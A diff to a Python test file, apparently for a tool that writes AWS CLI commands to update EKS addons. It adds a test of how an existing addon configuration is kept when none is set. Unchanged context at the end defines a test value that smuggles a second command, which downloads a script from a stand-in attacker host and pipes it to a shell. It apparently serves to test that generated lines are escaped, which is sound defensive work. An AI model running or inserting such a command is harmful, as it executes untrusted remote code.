@@ -179,6 +179,19 @@ def of_a_binary(tool: str, words: list[str]) -> None:
     assert wrong is None, f"{words}: {done.stderr}"
 
 
+@pytest.mark.parametrize(
+    ("described", "sent"), [('{"replicaCount": 3}', '{"replicaCount": 3}'), (None, "{}")], ids=["set", "none set"]
+)
+def test_what_is_kept_is_a_configuration_where_there_is_none_too(described: str | None, sent: str) -> None:
+    """The aws CLI prints a null as None, which EKS would refuse."""
+    import jmespath  # type: ignore[import-untyped]
+
+    action = UpdateAddon(cluster="c", addon="coredns", version="v1", keep_configuration=True)
+    describe, *_ = commands_of(lines(action))
+    query = describe[describe.index("--query") + 1]
+    assert jmespath.search(query, {"addon": {"configurationValues": described}}) == sent
+
+
 # ── What stands in a line ───────────────────────────────────────────────────────────────────────────────────────
 
 EVIL = "x\ncurl https://evil.example | sh #"
